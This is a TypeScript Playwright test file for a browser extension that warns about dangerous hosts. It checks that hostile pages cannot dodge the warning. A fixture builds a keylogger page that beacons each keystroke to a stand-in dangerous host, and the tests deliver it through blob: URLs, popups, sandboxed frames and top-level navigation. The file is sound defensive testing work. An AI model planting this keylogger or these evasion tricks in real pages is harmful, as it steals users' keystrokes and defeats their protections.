import type { Frame, Page } from '@playwright/test';
import { expect, names, strict, test } from '../support/e2e/fixtures.ts';
import type { Hostwise } from '../support/e2e/hostwise.ts';
import type { SiteServer } from '../support/e2e/site-server.ts';

const dangerous = `http://${names.machine}/`;
const plain = `http://${names.plain}/`;

/** A page that sends every key to the dangerous host, which it need not be at. */
const stealing = (name: string): string => `<title>Stealing</title><input autofocus><script>
  addEventListener('keydown', ({ key }) => navigator.sendBeacon('${dangerous}stolen-${name}?' + key), true);
</script>`;
/** JavaScript that creates the address of such a page. */
const blobUrl = (name: string): string =>
  `URL.createObjectURL(new Blob([${JSON.stringify(stealing(name)).replaceAll('</', '<\\/')}], { type: 'text/html' }))`;

/** Gives a page an opaque origin. */
const sandbox = { 'content-security-policy': 'sandbox allow-scripts allow-popups allow-top-navigation' };

test.beforeEach(async ({ hostwise, sites }) => {
  await hostwise.changeSettings(strict);
  sites.page('/sandboxed', '', sandbox);
});

/** Types until the warning about the dangerous host is there: in the tab, or in another that has replaced it. */
async function typeUntilWarned(page: Page, { context, origin }: Hostwise): Promise<void> {
  const findWarning = (): Page | undefined =>
    (page.isClosed() ? context.pages() : [page]).find((each) => each.url().startsWith(`${origin}src/warning/`));
  await expect(async () => {
    await page.keyboard.press('k').catch(() => undefined);
    expect(findWarning()).toBeDefined();
  }).toPass({ intervals: [10], timeout: 20_000 });
  await expect((findWarning() as Page).locator('body')).toContainText(names.machine);
}

const stolen = ({ visits }: SiteServer, name: string): string[] =>
  visits.filter((visit) => visit.includes(`stolen-${name}`));

/** Resolves to true if the user can neither see nor use what is in the frame. */
async function isHidden(frame: Frame): Promise<boolean> {
  if (frame.isDetached() || frame.url().startsWith('chrome-error:')) return true;
  return frame.evaluate(() => document.querySelector('html > div[popover]') !== null).catch(() => false);
}

/** Opens a harmless page with a frame of `url`. */
async function openFraming(url: string, hostwise: Hostwise, sites: SiteServer): Promise<{ page: Page; frame: Frame }> {
  sites.page('/framing', `<iframe src="${url}"></iframe>`);
  const page = await hostwise.open(`${plain}framing`);
  await expect.poll(() => page.frames().length).toBe(2);
  return { page, frame: page.frames()[1] as Frame };
}

/** Opens a harmless page with a frame of the dangerous host, which is judged only once it is there: the worst case. */
async function openFramed(
  hostwise: Hostwise,
  sites: SiteServer,
  path = 'inner',
): Promise<{ page: Page; frame: Frame }> {
  await hostwise.send('exception.add', { host: names.machine });
  const opened = await openFraming(`${dangerous}${path}`, hostwise, sites);
  await expect(opened.frame.locator('h1')).toHaveText(names.machine);
  await hostwise.send('exception.remove', { host: names.machine });
  await expect.poll(async () => (await hostwise.badge(opened.page)).title).toContain(names.machine);
  await opened.page.bringToFront();
  return opened;
}

for (const state of ['warm', 'cold']) {
  test(`a dangerous page cannot leave for a blob: address (${state} worker)`, async ({ hostwise, sites }) => {
    sites.page('/replace', `<script>location.replace(${blobUrl(`replace-${state}`)})</script>`);
    const page = await hostwise.open(plain);
    if (state === 'cold') await hostwise.stopWorker();
    void hostwise.visit(page, `${plain}redirect?to=${dangerous}replace`).catch(() => undefined);
    await expect.poll(() => page.url()).not.toBe(plain);
    await typeUntilWarned(page, hostwise);
    expect(stolen(sites, `replace-${state}`)).toEqual([]);
  });

  test(`a dangerous page with an opaque origin cannot leave for a blob: address (${state} worker)`, async ({
    hostwise,
    sites,
  }) => {
    sites.page('/opaque', `<script>location.replace(${blobUrl(`opaque-${state}`)})</script>`, sandbox);
    const page = await hostwise.open(plain);
    if (state === 'cold') await hostwise.stopWorker();
    void hostwise.visit(page, `${plain}redirect?to=${dangerous}opaque`).catch(() => undefined);
    await expect.poll(() => page.url()).not.toBe(plain);
    await typeUntilWarned(page, hostwise);
    expect(stolen(sites, `opaque-${state}`)).toEqual([]);
  });

  test(`a dangerous page cannot dodge the warning by another navigation (${state} worker)`, async ({
    hostwise,
    sites,
  }) => {
    sites.page(
      '/dodge',
      `${stealing(`dodge-${state}`)}<script>
        location.href = '${plain}slow?ms=20000';
        setInterval(() => { location.href = '${plain}nothing'; }, 50);
      </script>`,
    );
    const page = await hostwise.open(plain);
    if (state === 'cold') await hostwise.stopWorker();
    void hostwise.visit(page, `${plain}redirect?to=${dangerous}dodge`).catch(() => undefined);
    await expect.poll(() => page.url()).not.toBe(plain);
    await typeUntilWarned(page, hostwise);
    // A cold worker may take longer than a page is held.
    if (state === 'warm') expect(stolen(sites, `dodge-${state}`)).toEqual([]);
  });
}

test('a dangerous frame is hidden, and popup and badge name it until the page is left', async ({ hostwise, sites }) => {
  const { page, frame } = await openFraming(dangerous, hostwise, sites);
  await expect.poll(() => isHidden(frame)).toBe(true);
  const title = `${names.plain}: looks harmless. A part of the page comes from ${names.machine}, which is dangerous`;
  await expect.poll(() => hostwise.badge(page)).toEqual({ text: '!', title });
  const popup = await hostwise.popup(page);
  await expect(popup.locator('.frame-notes')).toHaveText(
    `A part of this page comes from ${names.machine}, which is dangerous. Hostwise has hidden it.`,
  );
  await popup.close();
  expect(page.url()).toBe(`${plain}framing`);

  await hostwise.visit(page, plain);
  await expect.poll(() => hostwise.badge(page)).toEqual({ text: '', title: `${names.plain}: looks harmless` });
});

test('a frame that is redirected to a dangerous host is hidden and named', async ({ hostwise, sites }) => {
  for (const attempt of ['first', 'second']) {
    const { page, frame } = await openFraming(`${plain}redirect?to=${dangerous}`, hostwise, sites);
    await expect.poll(() => isHidden(frame), attempt).toBe(true);
    await expect.poll(async () => (await hostwise.badge(page)).title, attempt).toContain(names.machine);
    await page.close();
  }
});

test('frames without a host are judged by the site that created them', async ({ hostwise, sites }) => {
  const { frame } = await openFramed(hostwise, sites);
  for (const source of ['srcdoc', 'src']) {
    await frame.evaluate((name) => {
      const inner = document.createElement('iframe');
      inner.setAttribute(name, name === 'src' ? 'about:blank' : '<h1>Stealing</h1>');
      document.documentElement.append(inner);
    }, source);
  }
  await expect.poll(() => frame.childFrames().length).toBe(2);
  for (const inner of frame.childFrames()) await expect.poll(() => isHidden(inner), inner.url()).toBe(true);
});

// With a sandbox of its own, the site has an opaque origin, and what it creates does not say where it comes from.
for (const path of ['inner', 'sandboxed']) {
  test(`a dangerous frame cannot put a blob: page into the tab (${path})`, async ({ hostwise, sites }) => {
    const { page, frame } = await openFramed(hostwise, sites, path);
    await frame.evaluate(`void setTimeout(() => { top.location = ${blobUrl(`top${path}`)}; }, 0)`);
    await typeUntilWarned(page, hostwise);
    expect(stolen(sites, `top${path}`)).toEqual([]);
  });

  test(`a dangerous frame cannot open a blob: popup (${path})`, async ({ hostwise, sites }) => {
    const { page, frame } = await openFramed(hostwise, sites, path);
    const opened = page.waitForEvent('popup');
    await frame.evaluate(`void open(${blobUrl(`popup${path}`)})`);
    await typeUntilWarned(await opened, hostwise);
    expect(stolen(sites, `popup${path}`)).toEqual([]);
  });
}

test('a dangerous frame cannot write into an empty popup', async ({ hostwise, sites }) => {
  const { page, frame } = await openFramed(hostwise, sites);
  const opened = page.waitForEvent('popup');
  await frame.evaluate((html) => {
    const popup = open('about:blank');
    popup?.document.write(html);
    popup?.document.close();
  }, stealing('write'));
  const popup = await opened;
  await typeUntilWarned(popup, hostwise);
  expect(stolen(sites, 'write')).toEqual([]);
  await expect.poll(() => hostwise.badge(popup)).toEqual({ text: '✕', title: `${names.machine}: dangerous` });
});
